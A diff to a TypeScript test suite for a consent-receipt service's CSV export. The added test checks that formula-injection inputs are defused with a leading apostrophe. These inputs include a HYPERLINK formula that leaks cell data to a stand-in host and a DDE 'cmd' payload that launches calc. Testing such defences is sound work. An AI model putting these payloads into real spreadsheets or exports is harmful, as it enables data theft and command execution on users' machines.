@@ -235,7 +235,7 @@ export const describeCollector = (database: () => Promise<string>) => {
   });
 
   describe('export', () => {
-    it('CSV: a header, one line per receipt in order of arrival, quotes, commas and line breaks escaped, formulas defused', async () => {
+    it('CSV: a header, one line per receipt in order of arrival, every cell quoted, quotes doubled, formulas defused', async () => {
       const collector = await open();
       await send(collector, receipt({ id: 'first0001', shop: 'ЖК "Migpromo", Алматы\nфилиал' }));
       now += 1000;
@@ -249,12 +249,34 @@ export const describeCollector = (database: () => Promise<string>) => {
       expect(response.headers['content-disposition']).toBe('attachment; filename="receipts-2026-05-04-2026-05-04.csv"');
       const [first, second] = (await history(collector, 'first0001')).concat(await history(collector, 'second001'));
       expect(response.body).toBe(
-        '\uFEFFreceivedAt,consentId,decidedAt,source,revision,lang,granted,refused,url,version,shop,userAgent,ipHash\r\n' +
-          '2026-05-04T09:30:00.000Z,first0001,2026-05-04T09:29:58.000Z,preferences,2026-05,lv,necessary analytics,marketing,' +
-          `https://www.shop.lv/lv/grozs?step=2,0.1.0,"ЖК ""Migpromo"", Алматы\nфилиал","${USER_AGENT}",${first.ipHash}\r\n` +
-          '2026-05-04T09:30:01.000Z,second001,2026-05-04T09:29:58.000Z,preferences,2026-05,lv,necessary analytics,marketing,' +
-          `"https://www.shop.lv/?a=1,2",0.1.0,,"'=HYPERLINK(""https://evil.example"")",${second.ipHash}\r\n`,
+        '\uFEFF"receivedAt","consentId","decidedAt","source","revision","lang","granted","refused","url","version","shop","userAgent","ipHash"\r\n' +
+          '"2026-05-04T09:30:00.000Z","first0001","2026-05-04T09:29:58.000Z","preferences","2026-05","lv","necessary analytics","marketing",' +
+          `"https://www.shop.lv/lv/grozs?step=2","0.1.0","ЖК ""Migpromo"", Алматы\nфилиал","${USER_AGENT}","${first.ipHash}"\r\n` +
+          '"2026-05-04T09:30:01.000Z","second001","2026-05-04T09:29:58.000Z","preferences","2026-05","lv","necessary analytics","marketing",' +
+          `"https://www.shop.lv/?a=1,2","0.1.0","","'=HYPERLINK(""https://evil.example"")","${second.ipHash}"\r\n`,
       );
+    });
+
+    it('CSV with sep=; for decimal-comma spreadsheets; a formula behind a NUL, a separator or a line break gets its quote as well', async () => {
+      const collector = await open();
+      await send(
+        collector,
+        receipt({ id: 'first0001', shop: '\u0000=HYPERLINK("http://x.example/?leak="&A2,"click")' }),
+      );
+      await send(collector, receipt({ id: 'second001', shop: 'x;=1+1', version: 'a,@SUM(1)' }));
+      await send(collector, receipt({ id: 'third0001', shop: "MonaOK\n+cmd|' /C calc'!A0" }));
+      const response = await read(collector, '/receipts/export?format=csv&sep=%3B');
+      expect(response.statusCode).toBe(200);
+      const [header, ...rows] = response.body.split('\r\n');
+      expect(header).toMatch(/^\uFEFF"receivedAt";"consentId";"decidedAt";/);
+      const cells = rows.filter(Boolean).map((row) => row.split('";"'));
+      expect(cells.map((row) => row.length)).toEqual([13, 13, 13]);
+      expect(cells.map((row) => [row[9], row[10]])).toEqual([
+        ['0.1.0', `'\u0000=HYPERLINK(""http://x.example/?leak=""&A2,""click"")`],
+        ["a,'@SUM(1)", "x;'=1+1"],
+        ['0.1.0', "MonaOK\n'+cmd|' /C calc'!A0"],
+      ]);
+      expect((await read(collector, '/receipts/export?format=csv&sep=%7C')).statusCode).toBe(400);
     });
 
     it('JSONL: one stored receipt per line, as it was sent', async () => {
